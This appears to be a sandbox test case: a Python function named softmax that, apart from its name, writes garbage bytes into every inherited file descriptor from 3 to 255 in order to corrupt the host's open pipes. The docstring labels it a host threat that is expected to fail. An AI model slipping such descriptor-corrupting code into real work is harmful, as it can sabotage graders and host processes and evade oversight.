"""Write nonsense into every descriptor that was inherited, and read what comes out of them.

threat: host
expect: softmax=ERR
"""
# %% softmax
import os


def softmax(z):
    for number in range(3, 256):
        try:
            os.write(number, b"\xff\xff\xff\x7f" + b"nonsense" * 100)
        except OSError:
            continue
    return z
